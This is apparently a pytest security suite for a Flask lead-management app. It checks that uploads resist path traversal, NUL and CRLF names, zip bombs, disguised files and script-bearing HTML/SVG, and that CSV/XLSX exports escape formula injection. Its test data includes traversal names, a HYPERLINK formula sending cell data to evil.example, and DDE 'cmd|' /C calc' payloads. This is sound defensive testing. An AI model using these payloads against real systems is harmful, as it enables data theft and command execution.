"""Uploads (attachments, imports) with wrong types, huge sizes, zip bombs, path-traversal and
NUL names; formula injection in every export (lead CSV/XLSX, bulk CSV, report CSV, sources CSV,
failed-rows CSV, custom-field and deleted-field CSV).
"""

from __future__ import annotations

import csv
import io
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
from flask import Flask
from flask.testing import FlaskClient
from openpyxl import load_workbook
from sqlalchemy import func, select
from werkzeug.datastructures import FileStorage
from werkzeug.test import encode_multipart

from leadapp.auth.models import Role, User
from leadapp.extensions import db
from leadapp.imports.models import ImportJob, ImportRowError
from leadapp.leads.models import Attachment, Lead
from leadapp.sources.models import Campaign, LeadSource
from tests.security.dataset import Dataset

PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+1+cmd|' /C calc'!A0",
            "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
RISKY = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def admin(client_as: Callable, dataset: Dataset) -> FlaskClient:
    return client_as(Role.admin)


# ---- attachments -------------------------------------------------------------------------

def _upload(client: FlaskClient, lead_id: int, name: str, body: bytes,
            content_type: str = "application/octet-stream"):
    return client.post(f"/admin/leads/{lead_id}/attachments",
                       data={"file": (io.BytesIO(body), name, content_type)},
                       content_type="multipart/form-data")


def _stored(app: Flask) -> list[Attachment]:
    with app.app_context():
        rows = list(db.session.scalars(select(Attachment).order_by(Attachment.id)))
        db.session.expunge_all()
        return rows


@pytest.mark.parametrize("name", ["../../etc/passwd", "..\\..\\boot.ini", "/etc/shadow",
                                  "a\x00.pdf", "....//....//x.txt", "con", ".htaccess"])
def test_attachment_names_cannot_leave_the_upload_folder(app: Flask, admin: FlaskClient,
                                                         dataset: Dataset, name: str) -> None:
    response = _upload(admin, dataset.ids["lead_id"], name, b"hello")
    assert response.status_code in (200, 201, 303, 422)
    folder = Path(app.config["UPLOAD_DIR"]).resolve()
    for attachment in _stored(app):
        assert "/" not in attachment.filename and "\\" not in attachment.filename
        assert "\x00" not in attachment.filename and not attachment.filename.startswith(".")
        with app.app_context():
            from leadapp.leads.attachments import path_of

            assert path_of(attachment).resolve().is_relative_to(folder)
    assert not (folder.parent / "etc").exists()


@pytest.mark.parametrize("limit", ["LEAD_ATTACHMENT_MAX_BYTES", "MAX_CONTENT_LENGTH"])
def test_attachment_over_the_limit_is_refused_and_not_kept(app: Flask, admin: FlaskClient,
                                                           dataset: Dataset, limit: str) -> None:
    app.config[limit] = 1024
    lead_id, before = dataset.ids["lead_id"], len(_stored(app))
    files_before = set(Path(app.config["UPLOAD_DIR"]).rglob("*"))
    refused = admin.post(f"/admin/leads/{lead_id}/attachments", headers={"HX-Request": "true"},
                         data={"file": (io.BytesIO(b"x" * 5000), "big.pdf")},
                         content_type="multipart/form-data")
    assert refused.status_code in (413, 422)
    assert refused.headers["X-Content-Type-Options"] == "nosniff"
    # Without htmx the page comes back (303) with the reason shown at the attachments.
    page = _upload(admin, lead_id, "big.pdf", b"x" * 5000)
    assert page.status_code == 303
    assert "The file is too big: the limit is 1 KB." in admin.get(page.location).get_data(
        as_text=True)
    assert len(_stored(app)) == before
    assert set(Path(app.config["UPLOAD_DIR"]).rglob("*")) == files_before


def test_attachment_claiming_html_is_downloaded_not_rendered(app: Flask, admin: FlaskClient,
                                                             dataset: Dataset) -> None:
    """The stored type comes from the browser; the download must never run as a page."""
    lead_id = dataset.ids["lead_id"]
    _upload(admin, lead_id, "invoice.html", b"<script>alert(1)</script>", "text/html")
    attachment = _stored(app)[-1]
    response = admin.get(f"/admin/leads/{lead_id}/attachments/{attachment.id}")
    assert response.status_code == 200
    assert response.headers["Content-Disposition"].startswith("attachment")
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert "script-src 'self'" in response.headers["Content-Security-Policy"]
    response.close()


def test_api_attachment_download_is_an_attachment_too(app: Flask, client: FlaskClient,
                                                      dataset: Dataset) -> None:
    lead_id, token = dataset.ids["lead_id"], dataset.tokens[Role.admin]
    response = client.post(f"/api/leads/{lead_id}/attachments", headers={"authtoken": token},
                           data={"file": (io.BytesIO(b"<svg onload=alert(1)>"), "x.svg",
                                          "image/svg+xml")},
                           content_type="multipart/form-data")
    assert response.status_code == 201
    attachment_id = response.get_json()["data"]["id"]
    download = client.get(f"/api/leads/{lead_id}/attachments/{attachment_id}",
                          headers={"authtoken": token})
    assert download.headers["Content-Disposition"].startswith("attachment")
    assert download.headers["X-Content-Type-Options"] == "nosniff"
    download.close()


def _api_upload(client: FlaskClient, dataset: Dataset, name: str, body: bytes):
    return client.post(f"/api/leads/{dataset.ids['lead_id']}/attachments",
                       headers={"authtoken": dataset.tokens[Role.admin]},
                       data={"file": (io.BytesIO(body), name, "application/octet-stream")},
                       content_type="multipart/form-data")


TRAVERSAL_NAMES = ["../../etc/passwd", "..\\..\\boot.ini", "/etc/shadow", "a\x00.pdf",
                   "....//....//x.txt", "../.htaccess", "%2e%2e%2fsecret.txt",
                   "..%c0%afwin.ini", "C:\\Windows\\win.ini", "quote\r\nX-Evil: 1.pdf"]


@pytest.mark.parametrize("name", TRAVERSAL_NAMES)
def test_api_upload_stores_under_a_random_name_and_downloads_a_clean_one(
        app: Flask, client: FlaskClient, dataset: Dataset, name: str) -> None:
    folder = Path(app.config["UPLOAD_DIR"]).resolve()
    files_before = set(folder.rglob("*"))
    response = _api_upload(client, dataset, name, b"payload " + name.encode())
    assert response.status_code in (201, 422), response.get_json()
    if response.status_code == 422:
        assert response.get_json()["status"] is False
        assert set(folder.rglob("*")) == files_before
        return
    data = response.get_json()["data"]
    clean = data["filename"]
    assert clean and not clean.startswith(".")
    assert not {"/", "\\", "\x00", "\r", "\n"} & set(clean) and ".." not in clean
    attachment = next(row for row in _stored(app) if row.id == data["id"])
    assert attachment.filename == clean
    # The file on disk has a random name of its own, inside the upload folder.
    assert len(attachment.stored_name) == 32 and int(attachment.stored_name, 16) >= 0
    assert clean not in attachment.stored_name
    with app.app_context():
        from leadapp.leads.attachments import path_of

        stored = path_of(attachment).resolve()
    assert stored.is_relative_to(folder) and stored.read_bytes() == b"payload " + name.encode()
    assert set(folder.rglob("*")) - files_before <= {stored, *(p for p in stored.parents
                                                              if p.is_relative_to(folder))}
    download = client.get(f"/api/leads/{dataset.ids['lead_id']}/attachments/{data['id']}",
                          headers={"authtoken": dataset.tokens[Role.admin]})
    disposition = download.headers["Content-Disposition"]
    download.close()
    assert download.status_code == 200 and disposition.startswith("attachment")
    assert clean in disposition and "/" not in disposition.replace("%2F", "/").split("=", 1)[1]
    assert "\r" not in disposition and "\n" not in disposition and ".." not in disposition


@pytest.mark.parametrize("limit", ["LEAD_ATTACHMENT_MAX_BYTES", "MAX_CONTENT_LENGTH"])
def test_api_upload_over_the_limit_is_refused_and_not_kept(app: Flask, client: FlaskClient,
                                                           dataset: Dataset, limit: str) -> None:
    app.config[limit] = 1024
    before, folder = len(_stored(app)), Path(app.config["UPLOAD_DIR"])
    files_before = set(folder.rglob("*"))
    response = _api_upload(client, dataset, "big.pdf", b"x" * 5000)
    assert response.status_code in (413, 422)
    assert response.mimetype == "application/json"
    body = response.get_json()
    assert body["status"] is False and body["message"]
    assert len(_stored(app)) == before
    assert set(folder.rglob("*")) == files_before
    # Just under the limit is fine (the limit is the file's, not an off-by-one).
    if limit == "LEAD_ATTACHMENT_MAX_BYTES":
        assert _api_upload(client, dataset, "small.pdf", b"x" * 1024).status_code == 201


# ---- imports -----------------------------------------------------------------------------

def _import(client: FlaskClient, name: str, body: bytes):
    return client.post("/admin/leads/import", data={"file": (io.BytesIO(body), name)},
                       content_type="multipart/form-data")


def _jobs(app: Flask) -> int:
    with app.app_context():
        return db.session.scalar(select(func.count()).select_from(ImportJob))


def _zip(entries: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
    return buffer.getvalue()


BOMB = _zip({"xl/workbook.xml": b"<workbook/>", "xl/worksheets/sheet1.xml": b"0" * 60_000_000})
WRONG_FILES = [
    ("leads.csv", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3 binary", "PDF"),
    ("leads.csv", b"MZ\x90\x00\x03\x00\x00\x00 program", "binary data"),
    ("leads.csv", _zip({"a.txt": b"x"}), ".xlsx"),
    ("leads.xlsx", b"title,email\nA,a@example.com\n", "not a real .xlsx"),
    ("leads.xlsx", _zip({"word/document.xml": b"<doc/>"}), "not an Excel workbook"),
    ("leads.xlsx", BOMB, "unpacks to far more data"),
    ("leads.xlsx", b"PK\x03\x04 broken zip", "damaged"),
    ("leads.exe", b"MZ\x90\x00", ".csv or .xlsx"),
    ("leads.csv", b"", "empty"),
]


@pytest.mark.parametrize(("name", "body", "says"), WRONG_FILES,
                         ids=["pdf-as-csv", "exe-as-csv", "zip-as-csv", "csv-as-xlsx",
                              "docx-as-xlsx", "zip-bomb", "broken-zip", "exe", "empty"])
def test_import_refuses_wrong_files_with_a_clear_message(app: Flask, admin: FlaskClient,
                                                         name: str, body: bytes,
                                                         says: str) -> None:
    before, files = _jobs(app), set(Path(app.config["UPLOAD_DIR"]).rglob("*.*"))
    response = _import(admin, name, body)
    assert response.status_code in (413, 422)
    assert says in response.get_data(as_text=True)
    assert _jobs(app) == before
    assert set(Path(app.config["UPLOAD_DIR"]).rglob("*.*")) == files  # the refused file is gone


def test_import_over_the_size_limit_is_refused(app: Flask, admin: FlaskClient) -> None:
    app.config["IMPORT_MAX_BYTES"] = 1024 * 1024
    before = _jobs(app)
    # Encoded here in memory: the test client would spool a body this big to a temp file that
    # it leaves open when the app refuses the body unread.
    boundary, body = encode_multipart({"file": FileStorage(
        io.BytesIO(b"title\n" + b"x" * 1_200_000 + b"\n"), "leads.csv")})
    response = admin.post("/admin/leads/import", data=body,
                          content_type=f"multipart/form-data; boundary={boundary}")
    assert response.status_code in (413, 422)
    assert "The file is larger than 1 MB." in response.get_data(as_text=True)
    assert _jobs(app) == before


@pytest.mark.parametrize("name", ["../../etc/passwd.csv", "a\x00b.csv", "..\\x.csv",
                                  "x" * 400 + ".csv"])
def test_import_names_are_metadata_only(app: Flask, admin: FlaskClient, name: str) -> None:
    response = _import(admin, name, b"title,email\nA,a@example.com\n")
    assert response.status_code in (303, 422)
    folder = Path(app.config["UPLOAD_DIR"]).resolve()
    with app.app_context():
        for job in db.session.scalars(select(ImportJob)):
            assert "/" not in job.stored_name and "\x00" not in job.filename
            assert len(job.filename) <= 255
    assert all(path.resolve().is_relative_to(folder) for path in folder.rglob("*"))


# ---- formula injection in exports ----------------------------------------------------------

@pytest.fixture
def poisoned(app: Flask, dataset: Dataset) -> dict[str, int]:
    """Leads, a source, a campaign, a failed import row and a custom field full of formulas."""
    with app.app_context():
        source = db.session.get(LeadSource, dataset.ids["source_id"])
        source.name, source.description = PAYLOADS[0], PAYLOADS[1]
        campaign = db.session.get(Campaign, dataset.ids["campaign_id"])
        campaign.name = PAYLOADS[3]
        leads = list(db.session.scalars(select(Lead).where(Lead.deleted_at.is_(None))
                                        .order_by(Lead.id).limit(len(PAYLOADS))))
        for lead, payload in zip(leads, PAYLOADS, strict=True):
            lead.title = payload
            lead.company_name = lead.city = lead.first_name = lead.description = payload
            lead.source_id, lead.campaign_id = source.id, campaign.id
        job = db.session.get(ImportJob, dataset.ids["job_id"])
        job.options = {**(job.options or {}), "headers": ["=Title", *PAYLOADS[1:]]}
        db.session.add(ImportRowError(job_id=job.id, row_number=3, message=PAYLOADS[0],
                                      cells={"values": PAYLOADS}))
        job.failed_count = 2
        db.session.commit()
        field_id = _custom_field(leads)
        return {"lead_ids": [lead.id for lead in leads], "field_id": field_id}


def _custom_field(leads: list[Lead]) -> int:
    from leadapp.custom_fields.models import CustomField, FieldKind, LeadFieldValue

    item = CustomField(key="poison", label="=Poison", kind=FieldKind.text)
    db.session.add(item)
    db.session.flush()
    for lead, payload in zip(leads, PAYLOADS, strict=True):
        db.session.add(LeadFieldValue(lead_id=lead.id, field_id=item.id, text_value=payload))
    db.session.commit()
    return item.id


def _unsafe_cells(text: str) -> list[str]:
    """Cells a spreadsheet would run as a formula (numbers like -5 are fine)."""
    bad = []
    for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))):
        for cell in row:
            if cell.startswith(RISKY) and not _number(cell):
                bad.append(cell)
    return bad


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def _assert_escaped(text: str, expect: int) -> None:
    assert _unsafe_cells(text) == []
    escaped = [cell for row in csv.reader(io.StringIO(text)) for cell in row
               if cell[:1] == "'" and cell[1:2] in RISKY]
    assert len(escaped) >= expect, text[:500]


def test_lead_csv_export_escapes_formulas(admin: FlaskClient, poisoned: dict) -> None:
    response = admin.get("/admin/leads/export/file", query_string={"format": "csv"})
    assert response.status_code == 200
    _assert_escaped(response.get_data(as_text=True), len(PAYLOADS) * 2)


def test_lead_xlsx_export_has_no_formula_cells(admin: FlaskClient, poisoned: dict) -> None:
    response = admin.get("/admin/leads/export/file", query_string={"format": "xlsx"})
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.get_data())).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert all(cell.data_type != "f" for cell in cells)
    risky = [cell for cell in cells if isinstance(cell.value, str)
             and cell.value.startswith(RISKY)]
    assert len(risky) >= len(PAYLOADS) * 2
    # Text cells with Excel's quote prefix: shown as typed, and still text after an edit.
    assert all(cell.quotePrefix for cell in risky), [c.value for c in risky if not c.quotePrefix]


def test_bulk_csv_export_escapes_formulas(admin: FlaskClient, poisoned: dict) -> None:
    """Selection export hands the checked ids to the exporter; its CSV is escaped too."""
    ids = [("lead_ids", str(i)) for i in poisoned["lead_ids"]]
    handed = admin.post("/admin/leads/bulk/export", data={"action": "export",
                                                          "scope": "checked",
                                                          "lead_ids": [v for _, v in ids]})
    assert handed.status_code == 303 and handed.location.startswith("/admin/leads/export?")
    response = admin.get("/admin/leads/export/file", query_string=[*ids, ("format", "csv")])
    assert response.status_code == 200 and response.mimetype == "text/csv"
    _assert_escaped(response.get_data(as_text=True), len(PAYLOADS))


def test_report_csv_escapes_source_and_campaign_names(admin: FlaskClient,
                                                      poisoned: dict) -> None:
    response = admin.get("/admin/reports/sources/export.csv",
                         query_string={"from": "2000-01-01", "to": "2100-01-01"})
    assert response.status_code == 200
    text = response.get_data(as_text=True)
    assert "HYPERLINK" in text
    _assert_escaped(text, 1)


def test_sources_csv_export_escapes_formulas(admin: FlaskClient, poisoned: dict,
                                             dataset: Dataset) -> None:
    response = admin.post("/admin/leads/sources/export",
                          data={"source_ids": [str(dataset.ids["source_id"])]})
    assert response.status_code == 200
    text = response.get_data(as_text=True)
    assert "HYPERLINK" in text
    _assert_escaped(text, 2)


def test_failed_rows_csv_escapes_formulas(admin: FlaskClient, poisoned: dict,
                                          dataset: Dataset) -> None:
    response = admin.get(f"/admin/leads/import/{dataset.ids['job_id']}/errors.csv")
    assert response.status_code == 200
    text = response.get_data(as_text=True)
    assert "HYPERLINK" in text
    _assert_escaped(text, len(PAYLOADS) * 2)


def test_custom_field_and_deleted_field_csv_escape_formulas(app: Flask, admin: FlaskClient,
                                                            poisoned: dict) -> None:
    field_id = poisoned["field_id"]
    values = admin.get(f"/admin/settings/fields/{field_id}/values.csv")
    assert values.status_code == 200
    _assert_escaped(values.get_data(as_text=True), len(PAYLOADS) * 2)
    with app.app_context():
        from leadapp.custom_fields import services
        from leadapp.custom_fields.models import CustomField

        export_id = services.delete_field(db.session.get(CustomField, field_id)).id
    deleted = admin.get(f"/admin/settings/fields/deleted/{export_id}.csv")
    assert deleted.status_code == 200
    _assert_escaped(deleted.get_data(as_text=True), len(PAYLOADS) * 2)


def test_user_names_in_exports_are_escaped_too(app: Flask, admin: FlaskClient,
                                               poisoned: dict) -> None:
    with app.app_context():
        owner = db.session.scalar(select(User).where(User.role == Role.sales))
        owner.name = "=cmd|' /C calc'!A0"
        for lead_id in poisoned["lead_ids"]:
            db.session.get(Lead, lead_id).owner_id = owner.id
        db.session.commit()
    response = admin.get("/admin/leads/export/file", query_string={"format": "csv"})
    assert _unsafe_cells(response.get_data(as_text=True)) == []
